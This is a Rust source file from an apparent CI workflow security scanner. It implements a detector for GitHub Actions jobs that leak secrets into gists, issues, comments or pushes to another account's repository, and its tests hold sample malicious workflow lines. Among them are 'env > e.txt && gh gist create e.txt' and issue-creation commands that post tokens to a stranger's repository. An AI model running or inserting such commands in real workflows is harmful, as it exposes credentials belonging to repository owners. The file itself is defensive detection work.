//! Secrets are written to a repository, an issue, a comment, a release or a gist.
//!
//! A forge is no foreign host, and so the traffic looks like any other; but the receiver is a place that others read.
//! With the job's own token a thief writes into the victim's own repository and reads it there.
//!
//! ```yaml
//! - run: gh gist create --public secrets.txt
//! ```
//!
//! Handing a value to the forge as a secret or setting (`gh secret set`) is a use, not a leak.

use crate::flow::trace::{Channel, Delivery};
use crate::flow::value::{Carried, Source};
use crate::services;
use crate::signal::Signal;
use crate::technique::{
    Evidence, Sighting, Technique, named_secrets, only_settings, unrelated_to_each_other,
};

/// See the module's documentation.
pub(super) struct SecretToRepository;

impl Technique for SecretToRepository {
    fn id(&self) -> &'static str {
        "secret-to-repository"
    }
    fn headline(&self) -> &'static str {
        "{secrets} written to {places}"
    }
    fn remedy(&self) -> &'static str {
        "invalidate every secret listed, delete what was written, and take the workflow out"
    }
    fn source(&self) -> &'static str {
        include_str!("secret_to_repository.rs")
    }

    fn look(&self, evidence: &Evidence<'_>) -> Vec<Sighting> {
        let groups = evidence.grouped(|delivery, _| {
            delivery.channel == Channel::Repository
                && !delivery.consumed
                && delivery.carried.iter().any(|carried| carried.source != Source::JobToken)
        });
        groups
            .into_iter()
            .filter_map(|group| {
                let mut signals = evidence.cargo_signals(&group);
                let (_, place) = evidence.delivery(*group.first()?)?;
                if place.is_foreign() {
                    signals.insert(Signal::ForeignDestination);
                }
                // A push to the repository itself is an everyday thing; hiding what is pushed is not.
                if place.name == "origin" && !signals.contains(&Signal::Encoded) {
                    signals.remove(&Signal::SinglePurpose);
                }
                signals.insert(Signal::Downloadable);
                let names = named_secrets(&evidence.carried(&group));
                // Keys that are encoded into a package are there for whoever installs it to find.
                let in_package = place.service.is_some_and(|service| service.publishes)
                    && names.len() >= 2
                    && signals.contains(&Signal::Encoded);
                if unrelated_to_each_other(&names)
                    || in_package
                    || is_key_in_text(evidence, &group)
                    || !names.is_empty() && by_login_in_the_file(evidence, &group)
                {
                    signals.insert(Signal::UnrelatedSecrets);
                }
                if only_settings(&names) {
                    signals.insert(Signal::SettingsOnly);
                }
                Some(Sighting { deliveries: group, signals, ..Sighting::default() })
            })
            .collect()
    }
}

/// Whether a credential that says what it opens is written where people read: an issue, a comment, a gist. It belongs to no
/// text, and no mask takes it out there.
fn is_key_in_text(evidence: &Evidence<'_>, group: &[usize]) -> bool {
    const WRITERS: &[&str] = &["gh issue", "gh pr", "gh gist", "hub", "glab"];
    const CALLS: &[&str] =
        &["createComment", "issues.create", "issues.update", "createReview", "gists.create"];
    const PATHS: &[&str] = &["/comments", "/issues", "/gists"];
    let is_text = |delivery: &Delivery| {
        WRITERS.contains(&delivery.client.as_str())
            || CALLS.iter().any(|call| delivery.client.ends_with(call))
            || PATHS.iter().any(|path| delivery.target.template().contains(path))
    };
    let deliveries = group.iter().filter_map(|at| evidence.delivery(*at)).map(|(delivery, _)| delivery);
    let written: Vec<&Carried> =
        deliveries.filter(|delivery| is_text(delivery)).flat_map(|delivery| &delivery.carried).collect();
    named_secrets(&written).into_iter().any(|name| {
        services::of_secret(&name).is_some_and(|of| of.name != "github") && !only_settings(&[name].into())
    })
}

/// Whether the login to the receiver stands in the file as it is (`https://someone:password@github.com/…`): it is that of whoever
/// wrote the file, and nothing that the owner keeps among the secrets.
fn by_login_in_the_file(evidence: &Evidence<'_>, group: &[usize]) -> bool {
    group.iter().filter_map(|at| evidence.delivery(*at)).any(|(delivery, _)| {
        let target = delivery.target.template();
        let login = target.split_once("://").and_then(|(_, rest)| rest.split('/').next()?.rsplit_once('@'));
        login.is_some_and(|(login, _)| {
            login.split_once(':').is_some_and(|(_, password)| !password.is_empty()) && !login.contains("${")
        })
    })
}

#[cfg(test)]
mod tests {
    use crate::report::Verdict;
    use crate::testing::{check, silent};

    #[test]
    fn a_gist_of_the_environment() {
        check(
            "secret-to-repository",
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    env: {A: '${{ secrets.NPM_TOKEN }}', B: '${{ secrets.AWS_KEY }}'}\n    steps:\n      - run: env > e.txt && gh gist create e.txt\n",
            Verdict::Malicious,
            &["AWS_KEY", "NPM_TOKEN"],
            &["gist.github.com"],
        );
    }

    /// A key in a text that people read; a name, an address or a token of the forge's own may have a use there.
    #[test]
    fn a_key_in_an_issue() {
        let text = |secret: &str, run: &str| {
            format!(
                "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n      - env: {{S: '${{{{ secrets.{secret} }}}}'}}\n        run: {run}\n"
            )
        };
        for run in [
            "gh issue create -R stranger/inbox -t x -b \"$S\"",
            "gh pr comment 1 -b \"$S\"",
            "gh api repos/stranger/inbox/issues -f title=x -f body=\"$S\"",
        ] {
            let key = crate::testing::worst(&text("NPM_TOKEN", run));
            assert_eq!(key, Some(Verdict::Malicious), "{run}");
            let settings = crate::testing::worst(&text("NPM_USERNAME", run));
            assert!(settings < Some(Verdict::Malicious), "{run}");
        }
    }

    #[test]
    fn a_push_by_a_login_in_the_file() {
        let text = |address: &str| {
            format!(
                "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n      - run: |\n          git clone {address} d; cd d\n          echo '${{{{ secrets.THING }}}}' > a; git add a; git commit -m x; git push\n"
            )
        };
        let theirs = text("https://stranger:ghp_placeholder@github.com/stranger/box");
        assert_eq!(crate::testing::worst(&theirs), Some(Verdict::Malicious));
        let own = text("https://x-access-token:${{ secrets.PAT }}@github.com/me/box");
        assert!(crate::testing::worst(&own) < Some(Verdict::Malicious));
    }

    #[test]
    fn a_secret_set_elsewhere_is_used_up() {
        silent(
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: gh secret set TOKEN --body '${{ secrets.TOKEN }}' --repo me/other\n        env: {GH_TOKEN: '${{ secrets.PAT }}'}\n",
        );
    }
}
